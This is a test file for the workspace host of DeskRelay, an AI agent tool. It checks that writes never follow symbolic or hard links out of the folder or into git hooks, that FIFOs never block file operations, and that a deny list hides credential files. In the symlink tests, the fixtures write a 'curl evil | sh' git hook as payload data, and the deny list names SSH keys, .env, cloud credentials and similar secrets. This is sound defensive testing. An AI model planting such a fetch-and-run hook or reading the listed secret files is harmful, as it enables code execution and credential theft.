// The CLI's Workspace host against what a cloned repository or a prompt-injected model can put in
// the folder (issue 35, findings 2, 7 and 11): symbolic links that lead out of the folder or into
// git's hooks, dangling or not; FIFOs, which a blocking open would hold a libuv thread on; hard
// links, which alias a file under another name; and every name on the deny list, in any case.
// Real temporary folders, real links, real `mkfifo`.
import { execFileSync } from 'node:child_process';
import { closeSync, constants, existsSync, linkSync, mkdirSync, mkdtempSync, openSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NodeWorkspace } from '../../server/src/agent/hosts/node';
import { findRipgrep } from '../../server/src/agent/hosts/node/ripgrep';
import { DEFAULT_LIMITS } from '../../server/src/agent/limits';
import { isDenied } from '../../server/src/agent/paths';
import { TOOLS, type ToolContext } from '../../server/src/agent/tools';
import { WorkspaceError } from '../../server/src/agent/workspace';

let base: string;
let repo: string;
let outside: string;
let ws: NodeWorkspace;
let ctx: ToolContext;
const rg = findRipgrep();

const tool = (name: string) => TOOLS.find((t) => t.spec.name === name)!;
/** A tool call as the loop makes it once approved: prepared (the card), then run. */
const approved = async (name: string, input: Record<string, unknown>, on = ctx) => (await tool(name).prepare(input, on)).run();

const refused = async (p: Promise<unknown>, re: RegExp) => {
  const err = await p.then(() => undefined, (e: unknown) => e);
  expect(err, `expected a refusal matching ${re}`).toBeInstanceOf(WorkspaceError);
  expect((err as Error).message).toMatch(re);
};

/** `p`, or a failure after `ms`: a call that blocks (a FIFO opened for reading) fails the test instead of hanging it. */
const promptly = <T>(p: Promise<T>, what: string, ms = 3_000): Promise<T> =>
  Promise.race([p, new Promise<T>((_, reject) => setTimeout(() => reject(new Error(`${what} did not answer within ${ms} ms`)), ms).unref())]);

/** Opens every FIFO under test for writing and closes it at once: a reader blocked in open() (before the fix) gets EOF, so even the failing run ends. */
function unblock(...fifos: string[]): void {
  for (const fifo of fifos) {
    for (let i = 0; i < 8; i++) {
      try {
        closeSync(openSync(fifo, constants.O_WRONLY | constants.O_NONBLOCK));
      } catch {
        break; // ENXIO: no reader waiting
      }
    }
  }
}

beforeAll(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), 'deskrelay-fs-safety-')));
  repo = join(base, 'proj');
  outside = join(base, 'outside');
  mkdirSync(join(repo, 'src'), { recursive: true });
  mkdirSync(outside);
  writeFileSync(join(repo, 'src', 'a.txt'), 'inside\n');
  writeFileSync(join(outside, 'victim.txt'), 'outside, untouched\n');
  writeFileSync(join(outside, 'secret.txt'), 'outside secret\n');
  execFileSync('git', ['init', '-q'], { cwd: repo });
  ws = new NodeWorkspace({ folder: repo, configDir: join(repo, '.deskrelay'), denyPaths: ['private/'] });
  ctx = { workspace: ws, limits: DEFAULT_LIMITS, signal: new AbortController().signal };
});

afterAll(() => rmSync(base, { recursive: true, force: true }));

describe('writes never follow a symbolic link out of the folder or into a denied path', () => {
  it('a dangling link to a file outside: write_file is refused and the outside file is never created', async () => {
    symlinkSync(join(outside, 'newfile.txt'), join(repo, 'dangling.txt'));
    await refused(approved('write_file', { path: 'dangling.txt', content: 'pwned\n' }), /symbolic link/);
    await refused(ws.writeFile('dangling.txt', 'pwned\n'), /symbolic link/);
    expect(existsSync(join(outside, 'newfile.txt'))).toBe(false);
  });

  it('a link into .git/hooks (dangling, as git clone recreates it): the hook is never written', async () => {
    symlinkSync('.git/hooks/pre-commit', join(repo, 'hooklink'));
    await refused(approved('write_file', { path: 'hooklink', content: '#!/bin/sh\ncurl evil | sh\n' }), /symbolic link|protected/);
    await refused(ws.writeFile('hooklink', '#!/bin/sh\n'), /symbolic link|protected/);
    expect(existsSync(join(repo, '.git', 'hooks', 'pre-commit'))).toBe(false);
    // An existing hook behind a link: not written either.
    writeFileSync(join(repo, '.git', 'hooks', 'post-merge'), '#!/bin/sh\n');
    symlinkSync(join(repo, '.git', 'hooks', 'post-merge'), join(repo, 'hooklink2'));
    await refused(ws.writeFile('hooklink2', '#!/bin/sh\ncurl evil | sh\n'), /symbolic link|protected/);
    expect(readFileSync(join(repo, '.git', 'hooks', 'post-merge'), 'utf8')).toBe('#!/bin/sh\n');
  });

  it('a linked parent folder leading outside, existing or dangling: nothing is written or created there', async () => {
    symlinkSync(outside, join(repo, 'outdir'));
    symlinkSync(join(outside, 'notyet'), join(repo, 'gonedir'));
    symlinkSync(join(repo, '.git', 'hooks'), join(repo, 'hooksdir'));
    await refused(approved('write_file', { path: 'outdir/new.txt', content: 'x' }), /symbolic link/);
    await refused(ws.writeFile('outdir/victim.txt', 'x'), /symbolic link/);
    await refused(approved('write_file', { path: 'gonedir/new.txt', content: 'x' }), /symbolic link/);
    await refused(ws.writeFile('gonedir/deeper/new.txt', 'x'), /symbolic link/);
    await refused(ws.writeFile('hooksdir/pre-push', '#!/bin/sh\n'), /symbolic link|protected/);
    expect(existsSync(join(outside, 'new.txt'))).toBe(false);
    expect(existsSync(join(outside, 'notyet'))).toBe(false);
    expect(existsSync(join(repo, '.git', 'hooks', 'pre-push'))).toBe(false);
    expect(readFileSync(join(outside, 'victim.txt'), 'utf8')).toBe('outside, untouched\n');
  });

  it('a link to a file inside the folder is read through, but never written through (the card is refused before it is shown)', async () => {
    symlinkSync(join(repo, 'src', 'a.txt'), join(repo, 'alias.txt'));
    expect(await ws.readFile('alias.txt')).toBe('inside\n');
    await refused(tool('write_file').prepare({ path: 'alias.txt', content: 'changed\n' }, ctx), /symbolic link/);
    await refused(tool('edit_file').prepare({ path: 'alias.txt', old: 'inside', new: 'changed' }, ctx), /symbolic link/);
    await refused(ws.writeFile('alias.txt', 'changed\n'), /symbolic link/);
    expect(readFileSync(join(repo, 'src', 'a.txt'), 'utf8')).toBe('inside\n');
    // A linked folder that stays inside the folder is a path like any other.
    symlinkSync(join(repo, 'src'), join(repo, 'srclink'));
    await approved('write_file', { path: 'srclink/b.txt', content: 'via link\n' });
    expect(readFileSync(join(repo, 'src', 'b.txt'), 'utf8')).toBe('via link\n');
  });

  it('a hard link to a file outside is never written (nor read)', async () => {
    linkSync(join(outside, 'victim.txt'), join(repo, 'hard.txt'));
    await refused(approved('write_file', { path: 'hard.txt', content: 'pwned\n' }), /hard link/);
    await refused(ws.writeFile('hard.txt', 'pwned\n'), /hard link/);
    await refused(ws.readFile('hard.txt'), /hard link/);
    expect(readFileSync(join(outside, 'victim.txt'), 'utf8')).toBe('outside, untouched\n');
  });

  it('ordinary writes still work: a new file in new folders, and an existing one replaced', async () => {
    await approved('write_file', { path: 'src/new/deep/c.txt', content: 'c\n' });
    expect(readFileSync(join(repo, 'src', 'new', 'deep', 'c.txt'), 'utf8')).toBe('c\n');
    await approved('write_file', { path: 'src/new/deep/c.txt', content: 'longer than before\n' });
    await approved('write_file', { path: 'src/new/deep/c.txt', content: 'd\n' });
    expect(readFileSync(join(repo, 'src', 'new', 'deep', 'c.txt'), 'utf8')).toBe('d\n');
  });
});

describe('a FIFO, socket or device in the folder never blocks a file operation', () => {
  it('five read_file calls on a FIFO are each refused at once, and the relay\'s file I/O still answers', async () => {
    const fifo = join(repo, 'pipe.txt');
    execFileSync('mkfifo', [fifo]);
    try {
      for (let i = 0; i < 5; i++) {
        await refused(promptly(approved('read_file', { path: 'pipe.txt' }), `read_file pipe.txt #${i + 1}`), /not a regular file/);
      }
      // libuv's pool (4 threads) is free: an ordinary read through the workspace and a plain fs read answer.
      expect(await promptly(ws.readFile('src/a.txt'), 'read_file src/a.txt')).toBe('inside\n');
      expect(await promptly(readFile(join(outside, 'victim.txt'), 'utf8'), 'a plain fs read')).toBe('outside, untouched\n');
    } finally {
      unblock(fifo);
    }
  });

  it('write_file and edit_file on a FIFO, and a link onto one: refused at once', async () => {
    const fifo = join(repo, 'pipe2.txt');
    execFileSync('mkfifo', [fifo]);
    symlinkSync(fifo, join(repo, 'pipelink.txt'));
    try {
      await refused(promptly(tool('write_file').prepare({ path: 'pipe2.txt', content: 'x' }, ctx), 'write_file pipe2.txt'), /not a regular file/);
      await refused(promptly(tool('edit_file').prepare({ path: 'pipe2.txt', old: 'a', new: 'b' }, ctx), 'edit_file pipe2.txt'), /not a regular file/);
      await refused(promptly(ws.writeFile('pipe2.txt', 'x'), 'writeFile pipe2.txt'), /not a regular file/);
      await refused(promptly(ws.readFile('pipelink.txt'), 'read_file pipelink.txt'), /not a regular file/);
    } finally {
      unblock(fifo);
    }
  });

  it('list and the plain search pass over FIFOs, even one named .gitignore, without opening them; a search of a FIFO by name is refused', async () => {
    const dir = join(base, 'fifos');
    mkdirSync(join(dir, 'sub'), { recursive: true });
    writeFileSync(join(dir, 'sub', 'x.txt'), 'needle\n');
    const fifos = [join(dir, 'sub', '.gitignore'), join(dir, 'needle.fifo'), join(dir, '.gitignore')];
    for (const f of fifos) execFileSync('mkfifo', [f]);
    const plain = new NodeWorkspace({ folder: dir, configDir: join(dir, '.deskrelay') });
    try {
      expect((await promptly(plain.listFiles({ maxEntries: 50 }), 'list_files')).files).toEqual(['sub/x.txt']);
      expect((await promptly(plain.listFiles({ path: 'sub', maxEntries: 50 }), 'list_files sub')).files).toEqual(['sub/x.txt']);
      expect((await promptly(plain.search({ query: 'needle', regex: false, maxMatches: 9 }), 'search')).matches).toEqual([{ path: 'sub/x.txt', line: 1, text: 'needle' }]);
      expect((await promptly(plain.search({ query: 'needle', path: 'sub', regex: false, maxMatches: 9 }), 'search sub')).matches).toHaveLength(1);
      await refused(promptly(plain.search({ query: 'needle', path: 'needle.fifo', regex: false, maxMatches: 9 }), 'search needle.fifo'), /not a regular file/);
      expect(await promptly(readFile(join(repo, 'src', 'a.txt'), 'utf8'), 'a plain fs read')).toBe('inside\n');
    } finally {
      unblock(...fifos);
    }
  });

  // ripgrep (VS Code's, or rg on PATH) skips FIFOs in its walk; it does open every .gitignore it
  // meets, in its own process (never a thread of the relay's), so that case is the plain search's above.
  it.skipIf(!rg)('ripgrep passes over FIFOs, and is never handed one by name', async () => {
    const dir = join(base, 'fifos-rg');
    mkdirSync(join(dir, 'sub'), { recursive: true });
    writeFileSync(join(dir, 'sub', 'x.txt'), 'needle\n');
    const fifos = [join(dir, 'sub', 'pipe.txt'), join(dir, 'needle.fifo')];
    for (const f of fifos) execFileSync('mkfifo', [f]);
    const viaRg = new NodeWorkspace({ folder: dir, configDir: join(dir, '.deskrelay'), ripgrep: () => rg });
    try {
      expect((await promptly(viaRg.search({ query: 'needle', regex: false, maxMatches: 9 }), 'rg search')).matches).toEqual([{ path: 'sub/x.txt', line: 1, text: 'needle' }]);
      await refused(promptly(viaRg.search({ query: 'needle', path: 'sub/pipe.txt', regex: false, maxMatches: 9 }), 'rg search sub/pipe.txt'), /not a regular file/);
    } finally {
      unblock(...fifos);
    }
  });
});

describe('the deny list: one function, every name, any case', () => {
  const denied = [
    '.env', '.ENV', '.Env.local', '.envrc', 'sub/.envrc',
    'id_rsa', 'id_ecdsa', 'id_dsa', 'keys/id_ed25519_sk', 'ID_RSA.pub', 'id_work',
    '.git-credentials', '.pgpass', '.npmrc', '.NETRC',
    '.aws/credentials', 'home/.ssh/config', '.SSH/known_hosts', '.kube/config', '.docker/config.json', 'x/.Docker/Config.JSON',
    'server.pem', 'server.PEM', 'a.key', 'A.KEY', 'cert.p12', 'cert.PFX', 'store.jks', 'release.keystore', 'app.KeyStore',
    '.git/config', '.Git/config', 'x/.GIT/hooks/pre-commit', '.git',
  ];
  const allowed = ['src/app.ts', 'src/.environment', 'identity.ts', '.docker/other.json', 'config.json', 'docs/ssh.md', 'keystore.md', 'src/keys.ts', 'aws/config', '.gitignore', '.github/workflows/ci.yml'];

  it('isDenied names every secret and git internal, case-insensitively', () => {
    for (const p of denied) expect(isDenied(p), p).toBe(true);
    for (const p of allowed) expect(isDenied(p), p).toBe(false);
  });

  it('read_file refuses each of them in the folder, list_files and search (plain and ripgrep) never show one', async () => {
    const dir = join(base, 'deny');
    const files = denied.filter((p) => p !== '.git' && !p.toLowerCase().startsWith('.git/') && !p.toLowerCase().includes('/.git/'));
    for (const p of [...files, ...allowed]) {
      mkdirSync(join(dir, p, '..'), { recursive: true });
      writeFileSync(join(dir, p), 'needle\n');
    }
    const plain = new NodeWorkspace({ folder: dir, configDir: join(dir, '.deskrelay') });
    for (const p of files) await refused(plain.readFile(p), /protected/);
    const listed = (await plain.listFiles({ maxEntries: 500 })).files;
    expect(listed.sort()).toEqual([...allowed].sort());
    const where = (r: { matches: { path: string }[] }) => r.matches.map((m) => m.path).sort();
    expect(where(await plain.search({ query: 'needle', regex: false, maxMatches: 500 }))).toEqual([...allowed].sort());
    if (rg) {
      const viaRg = new NodeWorkspace({ folder: dir, configDir: join(dir, '.deskrelay'), ripgrep: () => rg });
      expect(where(await viaRg.search({ query: 'needle', regex: false, maxMatches: 500 }))).toEqual([...allowed].sort());
    }
  });

  it('a configured denyPaths glob matches in any case', async () => {
    mkdirSync(join(repo, 'Private'), { recursive: true });
    writeFileSync(join(repo, 'Private', 'plan.txt'), 'needle\n');
    await refused(ws.readFile('Private/plan.txt'), /protected/);
    expect((await ws.listFiles({ maxEntries: 500 })).files).not.toContain('Private/plan.txt');
  });

  it('a file with more than one hard link is refused for reading, saying why, and never searched', async () => {
    const dir = join(base, 'hard');
    mkdirSync(dir);
    writeFileSync(join(dir, '.env'), 'TOKEN=needle\n');
    linkSync(join(dir, '.env'), join(dir, 'notes.txt'));
    linkSync(join(outside, 'secret.txt'), join(dir, 'readme.txt'));
    writeFileSync(join(dir, 'plain.txt'), 'needle\n');
    const plain = new NodeWorkspace({ folder: dir, configDir: join(dir, '.deskrelay') });
    await refused(plain.readFile('notes.txt'), /hard link/);
    await refused(plain.readFile('readme.txt'), /hard link/);
    await refused(approved('read_file', { path: 'readme.txt' }, { ...ctx, workspace: plain }), /more than one name/);
    expect((await plain.search({ query: 'needle', regex: false, maxMatches: 9 })).matches.map((m) => m.path)).toEqual(['plain.txt']);
    expect((await plain.search({ query: 'secret', regex: false, maxMatches: 9 })).matches).toEqual([]);
    if (rg) {
      const viaRg = new NodeWorkspace({ folder: dir, configDir: join(dir, '.deskrelay'), ripgrep: () => rg });
      expect((await viaRg.search({ query: 'needle', regex: false, maxMatches: 9 })).matches.map((m) => m.path)).toEqual(['plain.txt']);
      expect((await viaRg.search({ query: 'secret', regex: false, maxMatches: 9 })).matches).toEqual([]);
    }
  });

  it('DeskRelay\'s own config inside the folder is on the folder\'s deny list (what git_diff\'s output is filtered by)', async () => {
    const dir = join(base, 'own');
    mkdirSync(join(dir, '.deskrelay'), { recursive: true });
    writeFileSync(join(dir, '.deskrelay', 'config.json'), '{}\n');
    writeFileSync(join(dir, 'deskrelay.json'), '{}\n');
    const own = new NodeWorkspace({ folder: dir, configDir: join(dir, '.deskrelay'), protect: [join(dir, 'deskrelay.json')] });
    expect(own.denied('.deskrelay/config.json')).toBe(true);
    expect(own.denied('.DeskRelay/config.json')).toBe(true);
    expect(own.denied('deskrelay.json')).toBe(true);
    expect(own.denied('server.PEM')).toBe(true);
    expect(own.denied('src/app.ts')).toBe(false);
  });
});
